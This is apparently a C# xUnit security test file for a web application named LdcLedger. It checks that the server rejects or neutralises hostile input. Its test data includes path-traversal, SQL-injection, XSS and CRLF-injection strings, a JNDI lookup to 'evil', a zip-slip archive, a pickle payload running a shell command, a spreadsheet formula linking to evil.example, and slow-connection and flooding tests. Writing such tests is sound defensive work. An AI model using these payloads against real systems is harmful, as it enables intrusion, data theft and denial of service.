using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using LdcLedger.Domain;
using LdcLedger.Ledger.Tests;
using Microsoft.AspNetCore.Routing;
using Xunit;

namespace LdcLedger.Web.Tests.Access;

/// <summary>What others have put into addresses, bodies and names, to read files, run code, or wear a server out.</summary>
public sealed class InputAttackTests(TestLedger ledger) : IClassFixture<TestLedger>
{
    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    private static readonly IReadOnlyList<string> Places =
    [
        "studies/{0}", "studies/{0}/report/preview", "studies/{0}/playground", "api/v1/studies/{0}", "api/v1/studies/{0}/norms",
        "api/v1/studies/{0}/report.pdf", "api/v1/studies/finished/report.{0}", "api/v1/studies/open/figures/{0}.svg", "api/v1/runs/{0}",
        "api/v1/runs/{0}/events", "api/v1/rules/{0}", "api/v1/events/{0}", "api/v1/events/{0}/proof", "assets/{0}/ledger.css",
        "assets/0/{0}", "{0}",
    ];

    [Fact]
    [Trait("Attack", "10")]
    public async Task No_path_leads_to_a_file_and_no_odd_letter_to_more_than_a_sentence()
    {
        string[] odd =
        [
            "..", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%252e%252e%252f", "..;/", "....//", "%2e%2e%5c", "\\..\\..\\etc",
            "/etc/passwd", "file:///etc/passwd", "%00", "a%00.js", "#", "%23", "*", "'", "\"", "' or 1=1 --", "1;select pg_sleep(5)",
            "%27%20or%20%27%27%3d%27", "$1", "{{7*7}}", "${jndi:ldap://evil}", "<script>alert(1)</script>", "%0d%0aSet-Cookie:x=y",
            "\u202e", "%f0%9f%92%a9", new string('a', 4000), new string('%', 30), "0x0", "-1", "NaN", "1e309",
            "00000000-0000-0000-0000-000000000000",
        ];
        using var client = ledger.Operator();
        foreach (var place in Places)
            foreach (var text in odd)
            {
                using var response = await RawAsync(string.Format(null, place, text));
                var what = $"{place} with {text[..Math.Min(40, text.Length)]}: {response.Status}";
                Assert.True(response.Status is >= 200 and < 500, what);
                Assert.DoesNotContain("root:", response.Body, StringComparison.Ordinal);
                Assert.DoesNotContain("Exception", response.Body, StringComparison.Ordinal);
                Assert.DoesNotContain("Npgsql", response.Body, StringComparison.Ordinal);
                Assert.DoesNotContain("<script>alert", response.Body, StringComparison.Ordinal);
                Assert.DoesNotContain("Set-Cookie: x", response.Head, StringComparison.OrdinalIgnoreCase);
            }
    }

    [Fact]
    [Trait("Attack", "18")]
    public async Task What_stands_in_a_query_is_a_value_and_never_a_part_of_a_question()
    {
        string[] odd =
        [
            "' or '1'='1", "1) or (1=1", "; drop table ledger.x; --", "%", "_", "\\", "\0", "1 union select 1", "$1", new string('x', 3000),
        ];
        using var client = ledger.Operator();
        foreach (var parameter in (string[])["study", "model", "domain", "stage", "role", "status", "seed", "worker", "limit", "cursor"])
            foreach (var text in odd)
            {
                using var answer = await client.GetAsync($"api/v1/runs?{parameter}={Uri.EscapeDataString(text)}", Cancellation);
                var body = await answer.Content.ReadAsStringAsync(Cancellation);
                Assert.True((int)answer.StatusCode is 200 or 400 or 404 or 414, $"{parameter}={text}: {answer.StatusCode} {body}");
                if (answer.StatusCode == HttpStatusCode.OK)
                    Assert.StartsWith("{\"items\":[]", body, StringComparison.Ordinal);
            }
        foreach (var query in (string[])["after=-1", "after=9223372036854775808", "type=x", "limit=1000000000", "limit=0", "after=1e3"])
            Assert.Equal(
                (query, HttpStatusCode.BadRequest), (query, (await client.GetAsync($"api/v1/events?{query}", Cancellation)).StatusCode));
    }

    [Fact]
    [Trait("Attack", "20")]
    public async Task What_is_too_large_is_not_taken()
    {
        using var client = ledger.Operator();
        // Asks first whether it may be sent: who is refused while sending may find the line cut before it reads why.
        using var tooMuch = new HttpRequestMessage(HttpMethod.Post, "api/v1/proofs:check");
        tooMuch.Content = new StringContent(new string('x', 2 << 20), null, "application/json");
        tooMuch.Headers.ExpectContinue = true;
        using var large = await client.SendAsync(tooMuch, Cancellation);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, large.StatusCode);
        using var form = await client.PostAsync(
            "api/v1/proofs:check", new StringContent("{}", null, "text/plain"), Cancellation);
        Assert.Equal(HttpStatusCode.BadRequest, form.StatusCode);
        string[] none = ["", "{", "[]", "{}", "null", "{\"format\":\"ldcledger-proof/1\"}", new string('[', 5000)];
        foreach (var body in none)
            Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync(
                "api/v1/proofs:check", new StringContent(body, null, "application/json"), Cancellation)).StatusCode);
        using var many = await RawAsync("api/v1/runs?" + string.Join('&', Enumerable.Range(0, 900).Select(i => $"a{i}=1")));
        Assert.Equal(400, many.Status);
        using var long10 = await RawAsync("api/v1/runs?model=" + new string('a', 100_000));
        Assert.True(long10.Status is 414 or 431 or 400, $"{long10.Status}");
    }

    [Fact]
    [Trait("Attack", "12")]
    public async Task Nothing_that_is_sent_is_unpacked_or_brought_to_life()
    {
        var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
            await using (var entry = archive.CreateEntry("../../../../tmp/ldc-was-here").Open())
                await entry.WriteAsync("x"u8.ToArray(), Cancellation);
        byte[] pickle = [0x80, 0x04, .. "cposix\nsystem\n(S'touch /tmp/ldc-was-here'\ntR."u8];
        var packed = new MemoryStream();
        await using (var gzip = new GZipStream(packed, CompressionMode.Compress, leaveOpen: true))
            await gzip.WriteAsync("{\"reason\":\"unpacked\"}"u8.ToArray(), Cancellation);
        var last = await ledger.LastAsync();
        using var client = ledger.Operator();
        foreach (var route in ledger.Web.Routes)
            foreach (var method in route.Metadata.GetMetadata<HttpMethodMetadata>()!.HttpMethods.Except(["GET"]))
                foreach (var (type, encoding, content) in ((string, string?, byte[])[])
                [
                    ("application/zip", null, zip.ToArray()), ("application/x-tar", null, zip.ToArray()),
                    ("application/octet-stream", null, pickle), ("application/json", "gzip", packed.ToArray()),
                    ("application/x-www-form-urlencoded", "gzip", packed.ToArray()),
                ])
                {
                    var path = route.RoutePattern.Parameters.Aggregate(route.RoutePattern.RawText!, (text, part) => text.Replace(
                        $"{{{part.Name}}}", part.Name == "study" ? $"{ledger.Open}" : "0", StringComparison.Ordinal));
                    // Signing out takes nothing, and a form that says nothing asks for what it always asks for.
                    if (path is "/session/end" || type.EndsWith("urlencoded", StringComparison.Ordinal) && !path.StartsWith("/api/"))
                        continue;
                    using var body = new ByteArrayContent(content);
                    body.Headers.ContentType = new(type);
                    if (encoding is not null)
                        body.Headers.ContentEncoding.Add(encoding);
                    using var request = new HttpRequestMessage(new(method), path.TrimStart('/')) { Content = body };
                    using var answer = await client.SendAsync(request, Cancellation);
                    Assert.True((int)answer.StatusCode is >= 400 and < 500, $"{method} {path} as {type} {encoding}: {answer.StatusCode}");
                }
        Assert.Equal(last, await ledger.LastAsync());
        Assert.False(File.Exists("/tmp/ldc-was-here"));
    }

    [Fact]
    [Trait("Attack", "20")]
    public async Task Whoever_asks_for_hundreds_of_moments_at_once_is_told_to_wait_and_holds_up_nobody()
    {
        await using var usual = await ledger.StartAsync(ledger.Settings with { RequestsPerSecond = 20 });
        using var many = new HttpClient { BaseAddress = usual.Url };
        many.DefaultRequestHeaders.Authorization = new("Bearer", ledger.Reader);
        using var other = new HttpClient { BaseAddress = usual.Url };
        other.DefaultRequestHeaders.Authorization = new("Bearer", ledger.Token.Text);
        var asking = Enumerable.Range(1, 300).Select(i => StatusAsync(many, $"studies/{ledger.Finished}?at={1 + i % 50}")).ToList();
        await other.GetStringAsync("api/v1/session", Cancellation).WaitAsync(TimeSpan.FromSeconds(10), Cancellation);
        var statuses = await Task.WhenAll(asking);
        Assert.Equal([200, 429], statuses.Distinct().Order());

        static async Task<int> StatusAsync(HttpClient client, string path)
        {
            using var answer = await client.GetAsync(path, Cancellation);
            return (int)answer.StatusCode;
        }
    }

    [Fact]
    [Trait("Attack", "21")]
    public async Task Streams_that_nobody_reads_have_an_end_to_their_number_and_others_are_answered()
    {
        var streams = new List<HttpResponseMessage>();
        var clients = new List<HttpClient>();
        try
        {
            while (streams.Count < Web.Live.PositionFeed.MostViewers + 1)
            {
                if (streams.Count % Web.Live.PositionFeed.MostOfOneToken == 0)
                    clients.Add(ledger.Client(await ledger.MakeAsync($"idle {streams.Count}", Domain.Access.AccessRoles.Reader)));
                streams.Add(await clients[^1].GetAsync("live", HttpCompletionOption.ResponseHeadersRead, Cancellation));
            }
            Assert.All(streams.SkipLast(1), stream => Assert.Equal(HttpStatusCode.OK, stream.StatusCode));
            Assert.Equal(
                (HttpStatusCode.TooManyRequests, "30"), (streams[^1].StatusCode, streams[^1].Headers.GetValues("Retry-After").Single()));
            using var asking = ledger.Operator();
            await asking.GetStringAsync("", Cancellation).WaitAsync(TimeSpan.FromSeconds(10), Cancellation);
        }
        finally
        {
            streams.ForEach(stream => stream.Dispose());
            clients.ForEach(client => client.Dispose());
        }
    }

    [Fact]
    [Trait("Attack", "28")]
    public async Task Nobody_is_let_into_another_protocol()
    {
        using var response = await RawAsync("live", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZQ==\r\n"
            + "Sec-WebSocket-Version: 13\r\n", token: false);
        Assert.Equal(401, response.Status);
        using var connect = await RawAsync("", "", token: true, method: "CONNECT");
        Assert.True(connect.Status is >= 400 and < 500, $"{connect.Status}");
    }

    [Fact]
    [Trait("Attack", "21")]
    public async Task Slow_clients_hold_up_nobody()
    {
        var slow = new List<TcpClient>();
        try
        {
            for (var i = 0; i < 100; i++)
            {
                var client = new TcpClient();
                await client.ConnectAsync("127.0.0.1", ledger.Web.Url!.Port, Cancellation);
                await client.GetStream().WriteAsync("GET / HTTP/1.1\r\nHost: 127"u8.ToArray(), Cancellation);
                slow.Add(client);
            }
            using var asking = ledger.Operator();
            await asking.GetStringAsync("api/v1/session", Cancellation).WaitAsync(TimeSpan.FromSeconds(10), Cancellation);
        }
        finally
        {
            slow.ForEach(client => client.Dispose());
        }
    }

    [Fact]
    public async Task Names_with_markup_are_text_wherever_they_are_shown()
    {
        string[] payloads =
        [
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'onmouseover='alert(1)", "javascript:alert(1)",
            "</title><svg onload=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}", "\u2028alert(1)", "]]><!--", "&lt;b&gt;",
        ];
        foreach (var (i, payload) in payloads.Index())
        {
            var (study, runs) = Samples.Study($"x{i}");
            await ledger.RecordAsync([
                study with { Name = payload, Models = [.. study.Models.Select(m => m with { Name = payload })] },
                .. runs.Select(run => (ILedgerEvent)(run with { Model = payload })),
            ]);
        }
        using var client = ledger.Operator();
        using var answer = await client.GetAsync("", Cancellation);
        var html = await answer.Content.ReadAsStringAsync(Cancellation);
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
        var names = page.QuerySelectorAll("tbody th a").Select(a => a.TextContent).ToList();
        Assert.All(payloads, payload => Assert.Contains(payload, names));
        Assert.All(page.QuerySelectorAll("script"), script => Assert.StartsWith("/assets/", script.GetAttribute("src")));
        Assert.Empty(page.QuerySelectorAll("img, svg, b"));
        Assert.DoesNotContain(page.All.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        // Of JSON, a browser makes no page, whatever stands in it.
        using var json = await client.GetAsync("api/v1/studies", Cancellation);
        Assert.Equal("nosniff", json.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("same-origin", json.Headers.GetValues("Cross-Origin-Resource-Policy").Single());
        Assert.Contains("default-src 'none'", json.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        Assert.DoesNotContain("<script>", await json.Content.ReadAsStringAsync(Cancellation), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'onmouseover='alert(1)")]
    [InlineData("</title><svg onload=alert(1)>", "</textarea><b>x</b>", "{{7*7}}]]><!--")]
    public async Task Names_with_markup_are_text_on_the_pages_of_their_study_in_its_report_and_its_figures(
        string name, string model, string domain)
    {
        var (study, runs) = Samples.Study($"markup {name}");
        await ledger.RecordAsync([
            study with
            {
                Name = name, Models = [.. study.Models.Select(m => m with { Name = model })],
                Domains = [.. study.Domains.Select(d => d with { Name = domain })],
            },
            .. runs.Select(run => run with { Model = model, Domain = domain })
                .SelectMany(run => (IEnumerable<ILedgerEvent>)[run, .. Samples.Whole(run)]),
        ]);
        using var client = ledger.Operator();
        var at = $"studies/{study.StudyId}";
        var rule = Uri.EscapeDataString($"name: {name}\nmeasure: {model}\n{domain}: x\n");
        foreach (var path in (string[])
            [at, $"{at}/map", $"{at}/rankings?history=yes", $"{at}/stage2", $"{at}/work", $"{at}/playground",
                $"{at}/playground?text={rule}", $"{at}/report", $"{at}/report/preview", $"compare?study={study.StudyId}",
                $"compare?model={Uri.EscapeDataString(model)}",
                $"reports/diff?left={study.StudyId}&right={study.StudyId}&rightAt=40", $"runs?domain={Uri.EscapeDataString(domain)}"])
        {
            var html = await client.GetStringAsync(path, Cancellation);
            var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
            Assert.All(page.QuerySelectorAll("script"), script => Assert.StartsWith("/assets/", script.GetAttribute("src")));
            Assert.True(page.QuerySelectorAll("img, textarea ~ b, svg[onload]").Length == 0, path);
            Assert.DoesNotContain(page.All.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        }
        var figures = JsonDocument.Parse(await client.GetStringAsync($"api/v1/{at}/figures", Cancellation)).RootElement;
        foreach (var figure in figures.GetProperty("items").EnumerateArray())
        {
            var file = Uri.EscapeDataString(figure.GetProperty("name").GetString()!);
            var svg = System.Xml.Linq.XDocument.Parse(await client.GetStringAsync($"api/v1/{at}/figures/{file}.svg", Cancellation));
            Assert.DoesNotContain(svg.Descendants(), e => e.Name.LocalName is "script" or "img" or "b" or "foreignObject");
            Assert.DoesNotContain(
                svg.Descendants().SelectMany(e => e.Attributes()),
                a => a.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        }
    }

    [Fact]
    [Trait("Attack", "16")]
    public async Task A_table_that_is_opened_with_a_click_computes_nothing()
    {
        using var client = ledger.Operator();
        string[] formulas = ["=HYPERLINK(http://evil.example)", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"];
        foreach (var (i, evil) in formulas.Index())
        {
            var (study, runs) = Samples.Study($"formulas {i}");
            var run = runs[1] with { Model = evil };
            await ledger.RecordAsync(
                [study with { Models = [.. study.Models.Select(m => m with { Name = evil })] }, run, .. Samples.Whole(run)]);
            foreach (var table in (string[])["norms", "evaluations"])
            {
                var csv = await client.GetStringAsync($"api/v1/studies/{study.StudyId}/{table}?format=csv", Cancellation);
                Assert.Contains($"'{evil}", csv, StringComparison.Ordinal);
                Assert.DoesNotMatch($"(^|,|\\n)\"?{System.Text.RegularExpressions.Regex.Escape(evil)}", csv);
            }
        }
    }

    private sealed record Raw(int Status, string Head, string Body) : IDisposable
    {
        public void Dispose()
        {
        }
    }

    /// <summary>Sends a path as it is: a client library would tidy it up first.</summary>
    private async Task<Raw> RawAsync(string path, string headers = "", bool token = true, string method = "GET")
    {
        using var client = new TcpClient();
        await client.ConnectAsync("127.0.0.1", ledger.Web.Url!.Port, Cancellation);
        await using var stream = client.GetStream();
        var sent = $"{method} /{path} HTTP/1.1\r\nHost: {ledger.Web.Url.Authority}\r\n{headers}"
            + (token ? $"Authorization: Bearer {ledger.Token.Text}\r\n" : "")
            + (headers.Contains("Upgrade") ? "\r\n" : "Connection: close\r\n\r\n");
        await stream.WriteAsync(Encoding.UTF8.GetBytes(sent), Cancellation);
        var bytes = new MemoryStream();
        var buffer = new byte[65536];
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(Cancellation);
        limit.CancelAfter(TimeSpan.FromSeconds(15));
        while (true)
        {
            var count = await stream.ReadAsync(buffer, limit.Token);
            bytes.Write(buffer, 0, count);
            var text = Encoding.Latin1.GetString(bytes.ToArray());
            if (count == 0 || headers.Contains("Upgrade") && text.Contains("\r\n\r\n", StringComparison.Ordinal))
            {
                var end = text.IndexOf("\r\n\r\n", StringComparison.Ordinal);
                Assert.True(end > 0, $"{path}: no answer");
                return new(int.Parse(text.AsSpan(9, 3), null), text[..end], text[end..]);
            }
        }
    }
}
